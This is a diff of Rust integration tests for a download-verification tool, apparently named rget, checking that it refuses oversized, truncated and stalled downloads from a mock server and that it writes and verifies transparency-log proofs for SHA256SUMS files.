+    w.srv.route(&w.rel.path(APP), Reply::Endless);
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+                "--max-size",
+                "4000000",
+            ],
+        )
+        .run();
+    assert_refused(
+        &w,
+        &o,
+        MALFORMED,
+        "larger than the limit of 4000000 bytes",
+        &dest,
+        None,
+    );
+}
+
+#[test]
+fn tamper_body_cut_short() {
+    let w = World::new();
+    let body = w.rel.file(APP);
+    w.srv.route(
+        &w.rel.path(APP),
+        Reply::CutShort {
+            declared: body.len() as u64,
+            body: body[..body.len() / 2].to_vec(),
+        },
+    );
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let o = get_to(&w, &state, &w.url(&w.rel.path(APP)), &dest);
+    assert_refused(&w, &o, NETWORK, "cut short", &dest, None);
+    // A failure in transit is retried (3 attempts), each into an emptied temporary file.
+    assert_eq!(w.srv.count(&w.rel.path(APP)), 3);
+}
+
+#[test]
+fn tamper_server_never_answers() {
+    let w = World::new();
+    w.srv.route(&w.rel.path(APP), Reply::Hang);
+    let (state, dl) = fresh(&w, "t");
+    let dest = dl.join(APP);
+    let start = Instant::now();
+    let o = w
+        .client(
+            &state,
+            &[
+                "get",
+                &w.url(&w.rel.path(APP)),
+                "-o",
+                dest.to_str().unwrap(),
+                "--timeout",
+                "1",
+            ],
+        )
+        .run();
+    assert_refused(&w, &o, NETWORK, "timed out", &dest, None);
+    // Three attempts of one second each, with backoff: far from the 60 s default.
+    assert!(
+        start.elapsed() < Duration::from_secs(30),
+        "{:?}",
+        start.elapsed()
+    );
+    assert_eq!(w.srv.count(&w.rel.path(APP)), 3);
+}
+
+// ---- submit -----------------------------------------------------------------------------------
+
+#[test]
+fn submit_writes_a_verifying_proof_beside_the_file_and_is_idempotent() {
+    let w = World::new();
+    // World::new already ran `rget submit` for /rel; here a new release, submitted by hand.
+    let dir = w.dir("pub-sub");
+    std::fs::write(dir.join("tool"), data(2000, 5)).unwrap();
+    let sums_path = dir.join("SHA256SUMS");
+    let o = w
+        .command(&w.root)
+        .args(["sums", "-o"])
+        .arg(&sums_path)
+        .arg(dir.join("tool"))
+        .output()
+        .unwrap();
+    assert_ok(&o);
+    let sums = std::fs::read(&sums_path).unwrap();
+    let url = w.url("/sub/SHA256SUMS");
+    let pstate = w.dir("state-publisher");
+    let o = w.submit(&url, &sums_path, &pstate);
+    assert_ok(&o);
+    let proof_path = dir.join("SHA256SUMS.tlog-proof");
+    let proof = std::fs::read(&proof_path).expect("proof written beside --file");
+    let index = proof_index(&proof);
+    assert_eq!(index, 1, "after the release of World::new");
+    assert!(
+        stderr(&o).contains(&format!("is in {ORIGIN} at index {index}")),
+        "{}",
+        stderr(&o)
+    );
+    assert!(files_with_prefix(&dir, ".SHA256SUMS.tlog-proof.tmp").is_empty());
+
+    // The proof verifies offline, for exactly this URL and these bytes, under the policy.
+    let policy =
+        rget::core::policy::Policy::parse(&std::fs::read_to_string(&w.policy).unwrap()).unwrap();
+    let logged = rget::core::verify::verify_logged_sums(&policy, &url, &sums, &proof).unwrap();
+    assert_eq!(logged.index, index);
+    assert!(
+        rget::core::verify::verify_logged_sums(&policy, &w.rel.sums_url, &sums, &proof).is_err()
+    );
+
+    // ... and through `rget get`, served next to the SHA256SUMS.
+    w.srv.route("/sub/SHA256SUMS", Reply::body(&sums));
+    w.srv
+        .route("/sub/SHA256SUMS.tlog-proof", Reply::body(&proof));
+    w.srv.route("/sub/tool", Reply::body(data(2000, 5)));
+    let (state, dl) = fresh(&w, "sub");
+    let o = w
+        .client(&state, &["get", &w.url("/sub/tool")])
+        .cwd(&dl)
+        .no_key()
+        .run();
+    assert_ok(&o);
+    assert!(stderr(&o).contains(&format!("index {index} under checkpoint size 2")));
+
+    // Submitting the same file again returns the same index.
+    std::fs::remove_file(&proof_path).unwrap();
+    let o = w.submit(&url, &sums_path, &pstate);
+    assert_ok(&o);
+    let again = std::fs::read(&proof_path).expect("proof written again");
+    assert_eq!(proof_index(&again), index);
+    assert!(stderr(&o).contains(&format!("at index {index}")));
+
+    // -o writes elsewhere.
+    let elsewhere = w.root.join("elsewhere.proof");
+    let o = w
+        .command(&w.root)
+        .args(["submit", &url, "--file"])
+        .arg(&sums_path)
+        .arg("-o")
+        .arg(&elsewhere)
+        .args(["--log", &w.log_url, "--policy"])
+        .arg(&w.policy)
+        .args(["--allow-http", "--state"])
+        .arg(&pstate)
+        .output()
+        .unwrap();
+    assert_ok(&o);
+    assert_eq!(proof_index(&std::fs::read(&elsewhere).unwrap()), index);
+}
